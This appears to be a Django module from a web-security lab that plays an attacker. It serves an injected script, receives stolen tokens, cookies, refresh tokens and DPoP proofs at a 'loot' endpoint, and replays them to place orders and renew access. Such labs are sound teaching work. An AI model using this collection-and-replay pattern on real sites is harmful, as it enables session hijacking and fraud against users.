"""The thief: a script for other people's pages, a server that takes what it is sent and uses it."""

import json
import uuid
from contextlib import closing
from http import HTTPStatus
from pathlib import Path
from typing import Any

from django.conf import settings
from django.contrib.staticfiles.finders import find
from django.http import Http404, HttpRequest, HttpResponse, JsonResponse
from django.urls import path
from django.utils.module_loading import import_string

from accounts.attacks.stage.fence import Refused, body_of
from accounts.attacks.stage.hosts import Party, origin_of
from accounts.attacks.stage.plays import act_note, room_required
from accounts.attacks.stage.shop import THIEF_ADDRESS, house_known
from accounts.attacks.stage.stops import own_view, stop
from accounts.models import AttackPlay, Loot

ORDERS = 20
MAX_LOOT = 32_768  # characters
MASKED_FROM = 16  # characters: of a shorter one, seven would be too many


def script(request: HttpRequest) -> HttpResponse:
    """The script that a comment in the shop loads from here."""
    found = find("js/attacks/stolen.js")
    if not isinstance(found, str):
        raise Http404
    text = Path(found).read_text(encoding="utf-8")
    return HttpResponse(text, content_type="text/javascript; charset=utf-8")


def loot(request: HttpRequest, play_id: uuid.UUID, house: str) -> HttpResponse:
    """Take what a script sends home: a form without preflight, as scripts send it."""
    play, found = house_known(play_id, house).play, body_of(request)
    if request.method != "POST":
        raise Refused(HTTPStatus.METHOD_NOT_ALLOWED, "method_not_allowed", "Use POST")
    room_required(play)
    text = json.dumps(found)
    if len(text) > MAX_LOOT:
        raise Refused(HTTPStatus.REQUEST_ENTITY_TOO_LARGE, "too_large", "So much is no login")
    Loot.objects.create(play=play, house=house, found=found)
    act_note(play, "loot", house, **_described(found))
    return HttpResponse(status=HTTPStatus.NO_CONTENT)


def _described(found: dict[str, Any]) -> dict[str, Any]:
    """What arrived, without what it is worth: its kind, size, and a few signs at its ends."""
    value = str(found.get("token") or found.get("cookie") or "")
    return {
        "kind": str(found.get("kind", ""))[:20],
        "bytes": len(value),
        "masked": f"{value[:4]}…{value[-3:]}" if len(value) > MASKED_FROM else "",
        "refresh": bool(found.get("refresh")),
        "proofs": len(found["proofs"]) if isinstance(found.get("proofs"), list) else 0,
    }


def use(request: HttpRequest, play_id: uuid.UUID, house: str) -> HttpResponse:
    """Order lamps with what was stolen, from the thief's own server, by no browser at all."""
    play = house_known(play_id, house).play
    if request.method != "POST":
        raise Refused(HTTPStatus.METHOD_NOT_ALLOWED, "method_not_allowed", "Use POST")
    with closing(_Server(play, house)) as server:
        ordered = sum(server.order() for _ in range(ORDERS))
        told = {
            "orders": ORDERS,
            "ordered": ordered,
            "loot": len(server.loot),
            "renewed": server.renewed,
        }
    act_note(play, "used", house, **told)
    return JsonResponse(told)


class _Server:
    """The thief's server as a client of the shop. It holds what it was sent, and no browser."""

    def __init__(self, play: AttackPlay, house: str) -> None:
        import httpx  # late, as the lab does

        #: access tokens that it was given for a stolen refresh token
        self.renewed = 0
        self._root = f"{origin_of(Party.SHOP, play.home)}/{play.pk}/{house}/"
        transport = httpx.WSGITransport(
            app=import_string(settings.WSGI_APPLICATION), remote_addr=THIEF_ADDRESS
        )
        self._http = httpx.Client(transport=transport, trust_env=False)
        rows = Loot.objects.filter(play=play, house=house).order_by("-pk")
        self.loot: list[dict[str, Any]] = [dict(row.found) for row in rows]

    def order(self) -> bool:
        """Whether one of the stolen things gets an order through."""
        return any(self._order(one) or self._order(self._renewed(one)) for one in self.loot)

    def _order(self, stolen: dict[str, Any]) -> bool:
        headers = _headers(stolen)
        if not headers:
            return False
        body = {"item": "gold lamp"}
        return self._http.post(f"{self._root}order/", json=body, headers=headers).is_success

    def _renewed(self, stolen: dict[str, Any]) -> dict[str, Any]:
        """What was stolen, with another token if it has what asks for one."""
        if not stolen.get("refresh"):
            return {}
        response = self._http.post(f"{self._root}refresh/", json={"refresh": stolen["refresh"]})
        if response.is_success:
            stolen["token"] = response.json()["access"]
            self.renewed += 1
        return stolen

    def close(self) -> None:
        """Close the client."""
        self._http.close()


def _headers(stolen: dict[str, Any]) -> dict[str, str]:
    """How a thief sends it. Each value has to be a header's text, for it came from a page."""
    token, cookie, proofs = (stolen.get(name) for name in ("token", "cookie", "proofs"))
    if isinstance(proofs, list):
        # A proof counts once: of those that were made beforehand, each order takes the next one.
        proof = proofs.pop() if proofs else ""
        sent = {"Authorization": f"DPoP {token}", "DPoP": proof}
    else:
        sent = {"Authorization": f"Bearer {token}"} if token else {"Cookie": cookie}
    return sent if all(map(_is_header, sent.values())) else {}


def _is_header(value: object) -> bool:
    return isinstance(value, str) and value.isascii() and value.isprintable() and bool(value)


urlpatterns = [
    path("x.js", script),
    path("<uuid:play_id>/stop/<int:number>/", stop),
    path("<uuid:play_id>/at/<slug:name>/", own_view),
    path("<uuid:play_id>/<slug:house>/loot/", loot),
    path("<uuid:play_id>/<slug:house>/use/", use),
]
